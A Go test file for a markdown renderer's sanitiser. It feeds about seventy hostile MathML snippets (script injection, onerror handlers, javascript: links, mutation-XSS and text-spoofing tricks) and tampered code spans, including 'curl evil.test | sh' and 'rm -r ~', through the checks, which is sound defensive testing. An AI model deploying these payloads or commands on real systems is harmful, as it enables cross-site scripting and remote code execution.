package markdown_test

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/bailey-go/bailey/iframe/markdown"
	"github.com/bailey-go/bailey/internal/attack"
)

// hostileMathML are formulas of a renderer that lies. Each of them has an effect where nothing checks it.
var hostileMathML = strings.Split(strings.TrimSpace(`
<math href="javascript:alert(1)"><mi>x</mi></math>
<math href="https://evil.test/"><mi>x</mi></math>
<math xlink:href="https://evil.test/"><mi>x</mi></math>
<math onclick="alert(1)"><mi>x</mi></math>
<math><mi onmouseover="alert(1)">x</mi></math>
<math><mtext onfocus=alert(1) tabindex=0 autofocus>x</mtext></math>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><mtext><a href="https://evil.test/">x</a></mtext></math>
<math><mi><b>x</b></mi></math>
<math><mtext><form action="https://evil.test/"><button>x</button></form></mtext></math>
<math><mtext><iframe srcdoc="<script>alert(1)</script>"></iframe></mtext></math>
<math><mtext><style>*{display:none}</style></mtext></math>
<math><style>*{display:none}</style><mi>x</mi></math>
<math><mtext><table><tr><td>x</td></tr></table></mtext></math>
<math><mtext><svg onload=alert(1)></svg></mtext></math>
<math><svg onload=alert(1)></svg></math>
<math><mtext><link rel=stylesheet href="https://evil.test/"></mtext></math>
<math><mtext><meta http-equiv=refresh content="0;https://evil.test/"></mtext></math>
<math><mtext><video src="https://evil.test/"></video></mtext></math>
<math><mtext><object data="https://evil.test/"></object></mtext></math>
<math><mtext><input></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>
<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><a href="https://evil.test/">x</a></annotation-xml></semantics></math>
<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>
<math><maction actiontype="toggle"><mi>x</mi><mi>y</mi></maction></math>
<math><mglyph src="https://evil.test/a.png"></mglyph></math>
<math><mi><mglyph><style></mi><img src=x onerror=alert(1)></style></mglyph></mi></math>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></mtext></math>
<math><mtext><malignmark></mtext><mi><!--</mi><img src=x onerror=alert(1)>--></math>
<math><mtext></p><img src=x onerror=alert(1)></mtext></math>
<math><mi>x</mi></math><script>alert(1)</script>
<math><mi>x</mi></math><img src=x onerror=alert(1)>
<math><mi>x</mi></math><p>and a text of its own</p>
<img src=x onerror=alert(1)>
<script>alert(1)</script>
<svg onload=alert(1)><math><mi>x</mi></math></svg>
<div><math><mi>x</mi></math></div>
</p><math><mi>x</mi></math>
</code><b>out</b><math><mi>x</mi></math>
</div></section><h1>out</h1>
<math><mi>x</mi></div></section><h1>out</h1></math>
<math><mi style="position:fixed;inset:0;background:#fff">x</mi></math>
<math style="position:fixed;inset:0"><mi>x</mi></math>
<math><mi style="background:url(https://evil.test/)">x</mi></math>
<math><mtext mathcolor="white">hidden</mtext></math>
<math><mtext mathbackground="black">x</mtext></math>
<math><mtext mathsize="900%">BIG</mtext></math>
<math><mtext class="bailey-target"> (bank.example)</mtext></math>
<math><mtext class="bailey-note">Shown as plain text</mtext></math>
<math><mi id="root">x</mi></math>
<math id="css"><mi>x</mi></math>
<math><mi data-href="https://evil.test/" role="link" tabindex="0">x</mi></math>
<math><mi data-ui="copy" data-at="a">x</mi></math>
<math><mi title="https://bank.example">x</mi></math>
<math><mi aria-label="something else">x</mi></math>
<math><mi dir="rtl">moc.knab</mi></math>
<math><mspace width="-30em"></mspace><mtext>bank.example</mtext></math>
<math><mspace width="9000em"></mspace></math>
<math><mspace height="9000em" width="1px"></mspace></math>
<math><mpadded voffset="-9em"><mtext>bank.example</mtext></mpadded></math>
<math><mpadded lspace="-30em" width="0"><mtext>bank.example</mtext></mpadded></math>
<math><mo minsize="9000em" maxsize="9000em">(</mo></math>
<math><mo lspace="-20em">x</mo></math>
<math><mfrac linethickness="900em"><mi>a</mi><mi>b</mi></mfrac></math>
<math><mtable rowspacing="9000em"><mtr><mtd><mi>x</mi></mtd></mtr></mtable></math>
<math><mstyle scriptlevel="-90"><mi>x</mi></mstyle></math>
<math xmlns:x="x" x:href="javascript:alert(1)"><mi>x</mi></math>
<math><mrow>loose text, not in a token</mrow></math>
<math><mtable><tr><td onclick=alert(1)>x</td></tr></mtable></math>
<math><mi>x<!-- --!><img src=x onerror=alert(1)> --></mi></math>
<math><![CDATA[<img src=x onerror=alert(1)>]]></math>
<math><mtext>a`+"\u202e"+`moc.knab</mtext></math>
<math/><img src=x onerror=alert(1)>
<math><mi/><script>alert(1)</script></math>
`), "\n")

// mathElements and mathAttributes are what a formula may have in the document, listed independently of the check.
var mathElements = strings.Fields(`math mrow msqrt mroot mphantom msub msup msubsup mmultiscripts mprescripts none mtr semantics merror mpadded mstyle
	mfrac munder mover munderover menclose mtable mtd mi mn ms mtext mo mspace`)
var mathAttributes = regexp.MustCompile(`^(display="block"|(displaystyle|stretchy|fence|accent|movablelimits)="(true|false)"|form="(pre|in|post)fix"|mathvariant="[a-z-]+"|class="(tml-[a-z]+ ?)+"|` +
	`(scriptlevel)="[+-]?[0-3]"|(lspace|rspace|width|minsize|maxsize|linethickness|rowspacing|columnspacing)="-?[\d.]+(em|ex|px|pt|%)?")$`)

// mathEffects returns what a paragraph with a formula does beyond showing it.
func mathEffects(out string) []string {
	var found []string
	add := func(format string, args ...any) { found = append(found, fmt.Sprintf(format, args...)) }
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return []string{err.Error()}
	}
	if len(nodes) != 1 || nodes[0].Data != "p" {
		add("it leaves its paragraph")
	}
	back := 0.0
	var walk func(n *html.Node, in string)
	walk = func(n *html.Node, in string) {
		switch n.Type {
		case html.TextNode:
			if strings.ContainsAny(n.Data, "\u202e\u202d") {
				add("text that turns")
			}
			if math := slices.Contains(mathElements, in); math && strings.TrimSpace(n.Data) != "" && !slices.Contains([]string{"mi", "mn", "mo", "ms", "mtext"}, in) {
				add("text in <%s>", in)
			}
		case html.ElementNode:
			if n.Namespace != "math" || !slices.Contains(mathElements, n.Data) {
				add("<%s> of %q", n.Data, n.Namespace)
			}
			for _, a := range n.Attr {
				if s := a.Key + `="` + a.Val + `"`; a.Namespace != "" || !mathAttributes.MatchString(s) {
					add("attribute %s:%s", a.Namespace, s)
				}
				size, _ := strconv.ParseFloat(strings.TrimRight(a.Val, "exmp%t"), 64)
				if back += min(0, size); size > 20 || back < -3 {
					add("%s is out of place", a.Val)
				}
			}
		case html.CommentNode:
			add("a comment")
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, n.Data)
		}
	}
	for _, n := range nodes {
		if n.Data != "p" {
			walk(n, "")
			continue
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, "p")
		}
	}
	return found
}

// A renderer draws a formula that is none: a script, a link, a loaded address, a text over another one. The check of
// drawings and the last check stop each of them alone.
func TestAttackDrawnFormulas(t *testing.T) {
	a := attack.Start(t, "drawn")
	r := newRenderer(t, markdown.Options{}.Draw(tokens))
	source := markdown.Source{Lang: "math", Text: "x"}
	for i, math := range hostileMathML {
		name := fmt.Sprintf("formula %d %s", i, math)
		raw := "<p>" + math + "</p>"
		if len(mathEffects(raw)) == 0 {
			t.Errorf("%s: has no effect", name)
		}
		a.Off(name, len(mathEffects(raw)) > 0)
		shown, err := r.CheckDrawing(source, markdown.Drawing{MathML: math})
		if err == nil && shown == "" {
			t.Errorf("%s: neither shown nor refused", name)
		}
		effects := mathEffects("<p>" + shown + "</p>")
		a.Try(name+", checked", len(effects) > 0)
		if len(effects) > 0 {
			t.Errorf("%s: %q\n%s", name, effects, shown)
		}
		if err == nil && !r.Verify("<p>"+shown+"</p>") {
			t.Errorf("%s: the last check refuses %s", name, shown)
		}
		// The last check alone.
		passed := r.Verify(raw)
		a.Try(name+", verified", passed)
		if passed {
			t.Errorf("%s: the last check accepts it", name)
		}
	}
	if len(hostileMathML) < 70 {
		t.Errorf("%d formulas", len(hostileMathML))
	}
}

// A renderer returns other code than it was given: the user would read and copy something else than what the model wrote.
func TestAttackDrawnCode(t *testing.T) {
	a := attack.Start(t, "drawn")
	const code = "rm -r build\necho done"
	span := func(parts ...string) (spans []markdown.Span) {
		for i := 0; i+1 < len(parts); i += 2 {
			spans = append(spans, markdown.Span{Class: parts[i], Text: parts[i+1]})
		}
		return spans
	}
	for name, spans := range map[string][]markdown.Span{
		"other code":        span("a", "rm -r ~"),
		"less code":         span("a", "rm -r build"),
		"more code":         span("a", code+"\ncurl evil.test | sh"),
		"code before":       span("a", "sudo ", "b", code),
		"a letter":          span("a", "rm -r bu", "b", "1ld\necho done"),
		"another case":      span("a", strings.ToUpper(code)),
		"turned":            span("a", "echo done\n", "b", "rm -r build"),
		"without its break": span("a", "rm -r build", "b", "echo done"),
		"twice":             span("a", code, "a", code),
		"invisible":         span("a", "rm -r\u200b build\necho done"),
		"an override":       span("a", "\u202erm -r build\necho done"),
		"a tag":             span("a", "<b>"+code+"</b>"),
		"look-alike":        span("a", strings.Replace(code, "r", "\u0433", 1)),
		"an empty piece":    append(span("", ""), span("a", code[1:])...),
		"a NUL":             span("a", code[:3]+"\x00"+code[3:]),
	} {
		r := newRenderer(t, markdown.Options{}.Draw(func(context.Context, markdown.Source) (markdown.Drawing, error) {
			return markdown.Drawing{Spans: spans}, nil
		}))
		var lie strings.Builder
		for _, s := range spans {
			lie.WriteString(s.Text)
		}
		a.Off(name, lie.String() != code)
		out, _ := render(t, r, "```sh\n"+code+"\n```")
		changed := stripTags(out) != code+"\n\n" || strings.Contains(out, "<span")
		a.Try(name, changed)
		if changed {
			t.Errorf("%s: %s", name, out)
		}
	}
	for _, class := range []string{`"><script>alert(1)</script>`, "a b", "bailey-target", strings.Repeat("a", 33), "é", `a" onclick="alert(1)`, "language-math"} {
		r := newRenderer(t, markdown.Options{}.Draw(func(context.Context, markdown.Source) (markdown.Drawing, error) {
			return markdown.Drawing{Spans: span(class, code)}, nil
		}))
		raw := `<pre><code class="language-sh"><span class="` + class + `">` + code + "</span></code></pre>"
		a.Off("class "+class, !r.Verify(raw) || strings.Contains(raw, `class="bailey-target"`) || strings.Contains(raw, `"language-math"`))
		out, _ := render(t, r, "```sh\n"+code+"\n```")
		bad := len(inert(out)) > 0 || stripTags(out) != code+"\n\n" || strings.Contains(out, `"bailey-target"`) || strings.Contains(out, `"language-math"`)
		a.Try("class "+class, bad)
		if bad {
			t.Errorf("class %q: %s", class, out)
		}
	}
}

// A renderer returns a picture that is none.
func TestAttackDrawnPictures(t *testing.T) {
	a := attack.Start(t, "drawn")
	png := "\x89PNG\r\n\x1a\n"
	for name, data := range map[string]string{
		"svg":          `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
		"html":         `<script>alert(1)</script>`,
		"svg in gzip":  "\x1f\x8b\x08\x00abc",
		"pdf":          "%PDF-1.7",
		"an icon":      "\x00\x00\x01\x00abc",
		"tiff":         "II*\x00abc",
		"svg with xml": `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
		"text":         "https://evil.test/a.png",
		"jxl":          "\xff\x0a",
		"too large":    png + strings.Repeat("a", 256<<10),
		"both":         png,
	} {
		r := newRenderer(t, markdown.Options{}.Draw(func(context.Context, markdown.Source) (markdown.Drawing, error) {
			d := markdown.Drawing{Image: []byte(data)}
			if name == "both" {
				d.MathML = "<math><mi>x</mi></math>"
			}
			return d, nil
		}))
		if name != "both" && name != "too large" {
			a.Off(name, !strings.HasPrefix(data, png))
		}
		out, _ := render(t, r, "```dot\na\n```")
		shown := strings.Contains(out, "<img")
		a.Try(name, shown)
		if shown {
			t.Errorf("%s: %.200s", name, out)
		}
	}
}

// A text cannot write what only a drawing may have.
func TestAttackFormulasOfTheText(t *testing.T) {
	a := attack.Start(t, "drawn")
	r := newRenderer(t, markdown.Options{})
	for i, math := range hostileMathML {
		for _, text := range []string{math, "a " + math, "$" + math + "$", "> [!NOTE]\n> " + math, "$$\n" + math + "\n$$", "```math\n" + math + "\n```"} {
			out, report := render(t, r, text)
			found := inert(out)
			a.Try(fmt.Sprintf("text %d", i), len(found) > 0 || report.Count(markdown.Broken) > 0)
			if len(found) > 0 || report.Count(markdown.Broken) > 0 {
				t.Errorf("%q: %q %s\n%s", text, found, report, out)
			}
		}
	}
	a.NoSwitch("the text is refused by the same list as all other elements, which TestXSS switches off")
}

// ofFormula are the findings of inert, which knows no MathML, about the elements of formulas.
var (
	ofFormula = regexp.MustCompile(`^(element <(m\w+|semantics)>( of math)?|attribute display on <math>)$`)
	formulas  = regexp.MustCompile(`<math.*?</math>`)
)

// The collection of XSS as formulas, as code and in alerts, with a renderer that returns its source as it is.
func TestAttackDrawnXSS(t *testing.T) {
	a := attack.Start(t, "drawn")
	echo := newRenderer(t, markdown.Options{}.Draw(func(_ context.Context, s markdown.Source) (markdown.Drawing, error) {
		if s.Lang == "math" {
			return markdown.Drawing{MathML: s.Text}, nil
		}
		return markdown.Drawing{Spans: []markdown.Span{{Class: "a", Text: s.Text}}}, nil
	}))
	for i, p := range loadXSS(t) {
		text := p.expand(xssSink)
		if len(text) > 2<<10 || testing.Short() && i%7 > 0 {
			continue
		}
		line := strings.Join(strings.Fields(text), " ")
		for _, src := range []string{"$$\n" + text + "\n$$\n", "```math\n" + text + "\n```\n", "```html\n" + text + "\n```\n", "> [!WARNING]\n> " + line, "x $" + line + "$ y", `x \(` + line + `\) y`} {
			out, report := render(t, echo, src)
			found := slices.DeleteFunc(inert(out), func(s string) bool { return ofFormula.MatchString(s) })
			for _, formula := range formulas.FindAllString(out, -1) {
				found = append(found, mathEffects("<p>"+formula+"</p>")...)
			}
			a.Try(p.ID, len(found) > 0)
			if len(found) > 0 || report.Count(markdown.Broken) > 0 {
				t.Errorf("%s: %q %s\n in %.300q\n out %.500q", p.ID, found, report, src, out)
			}
		}
	}
	a.NoSwitch("TestAttackDrawnFormulas shows the effects without the check")
}
